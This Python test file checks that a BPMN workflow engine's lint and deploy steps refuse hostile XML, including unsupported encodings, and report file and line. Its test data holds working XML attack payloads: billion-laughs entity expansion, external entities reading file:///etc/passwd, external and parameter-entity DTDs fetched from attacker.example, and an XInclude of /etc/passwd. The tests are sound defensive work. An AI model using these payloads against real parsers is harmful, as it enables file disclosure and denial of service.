"""Hostile BPMN files, refused alike by lint and deploy through the one reading of a file (engine.diagram):
another encoding than UTF-8, any DOCTYPE, XInclude; every refusal names file and line and nothing is stored."""

from __future__ import annotations

import pytest
from sqlalchemy import func, select

from engine import diagram
from engine.errors import LintFailed
from engine.lint import lint_source
from engine.store import ProcessVersion
from tests.conftest import FIXTURES

GOOD = (FIXTURES / "approval_shape.bpmn").read_text(encoding="utf-8")
_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
assert GOOD.startswith(_DECLARATION)
BODY = GOOD[len(_DECLARATION) :].lstrip()


def _with_prolog(prolog: str) -> bytes:
    return f"{_DECLARATION}\n{prolog}\n{BODY}".encode()


DOCTYPES = {
    "unreferenced": "<!DOCTYPE definitions>",
    "internal entity": '<!DOCTYPE d [<!ENTITY who "张三">]>',
    "billion laughs": '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>',
    "external entity": '<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "external DTD": '<!DOCTYPE definitions SYSTEM "http://attacker.example/bpmn.dtd">',
    "parameter entity": '<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
    "after a comment": "<!-- designed in 办事大厅 -->\n<?pi x?>\n  <!DOCTYPE definitions>",
    "lower case": "<!doctype definitions>",
}


def _line_of(source: bytes, needle: str) -> int:
    text = source.decode("utf-8")
    return text[: text.upper().index(needle.upper())].count("\n") + 1


def _refusals(engine, source: bytes, filename: str = "hostile.bpmn"):
    """What lint says, and what deploy says (deploy must refuse, store nothing and not crash)."""
    linted = [f.format() for f in lint_source(source, filename)]
    with pytest.raises(LintFailed) as info:
        engine.repository.deploy(source, filename, "designer")
    with engine.db.session() as s:
        assert s.scalar(select(func.count()).select_from(ProcessVersion)) == 0
    return linted, [f.format() for f in info.value.findings]


@pytest.mark.parametrize("prolog", DOCTYPES.values(), ids=DOCTYPES.keys())
def test_any_doctype_is_refused_by_lint_and_deploy_naming_file_and_line(engine, prolog):
    linted, deployed = _refusals(engine, _with_prolog(prolog))
    assert linted == deployed
    [message] = linted
    line = _line_of(_with_prolog(prolog), "<!DOCTYPE")
    assert message.startswith(f"hostile.bpmn:{line}: -: DOCTYPE is not allowed")


def test_an_entity_used_without_a_doctype_is_malformed_xml():
    source = GOOD.replace('name="审批', 'name="&xxe;审批', 1).encode()
    assert source != GOOD.encode()
    [finding] = lint_source(source, "x.bpmn")
    assert "malformed XML" in finding.message and "xxe" in finding.message


def test_xinclude_is_refused(engine):
    source = GOOD.replace(
        "<bpmn:process ", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>\n'
        "  <bpmn:process ", 1,
    ).encode()  # fmt: skip
    linted, deployed = _refusals(engine, source)
    assert linted == deployed
    assert len(linted) == 1 and ": -: XInclude is not allowed" in linted[0]
    assert linted[0].startswith(f"hostile.bpmn:{_line_of(source, '<xi:include')}:")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_utf16_file_is_refused_by_lint_and_deploy_alike(engine, encoding):
    source = GOOD.replace("UTF-8", encoding.upper()).encode(encoding)
    linted, deployed = _refusals(engine, source)
    assert linted == deployed
    [message] = linted
    assert message.startswith("hostile.bpmn:1: -: the file is encoded as UTF-")
    assert "save it as UTF-8" in message


def test_a_file_declaring_another_encoding_or_holding_bytes_that_are_not_utf8_is_refused(engine):
    gbk = GOOD.replace("UTF-8", "GBK").encode("gbk")
    linted, deployed = _refusals(engine, gbk)
    assert linted == deployed == ["hostile.bpmn:1: -: the file is encoded as GBK: govflow reads BPMN files as UTF-8; "
                                  "save it as UTF-8, as the modelers do"]  # fmt: skip
    broken = GOOD.encode().replace("审批".encode(), "审批".encode("gbk"), 1)
    linted, deployed = _refusals(engine, broken)
    assert linted == deployed
    assert ": -: the file is not UTF-8 text" in linted[0]
    assert linted[0].startswith(f"hostile.bpmn:{_line_of(GOOD.encode(), '审批')}:")


def test_a_utf8_file_with_a_byte_order_mark_deploys_and_is_stored_as_its_text(engine):
    source = b"\xef\xbb\xbf" + GOOD.encode()
    assert lint_source(source, "approval_shape.bpmn") == []
    engine.repository.deploy(source, "approval_shape.bpmn", "designer")
    assert engine.repository.get("approval_shape").source == GOOD
    assert diagram.read_source(source, "x.bpmn")[0] == GOOD
